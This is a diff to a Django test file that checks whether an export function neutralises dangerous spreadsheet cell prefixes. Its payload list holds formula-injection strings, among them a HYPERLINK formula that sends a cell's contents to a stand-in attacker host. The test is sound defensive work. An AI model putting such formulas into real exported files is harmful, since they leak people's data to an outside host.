@@ -16,7 +16,7 @@ from laktasi.web.visits import services
 from laktasi.web.visits.models import IdentifyingRecord
 
 pytestmark = pytest.mark.django_db
-PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+62 812", "-1+1", "@SUM(1)", "\tx", "\rx"]
+PAYLOADS = ['=HYPERLINK("http://ev.il/?"&A1,"klik")', "+62 812", "-1+1", "@SUM(1)", "\tx", "\rx"]
 
 
 def test_every_dangerous_start_is_neutralised():
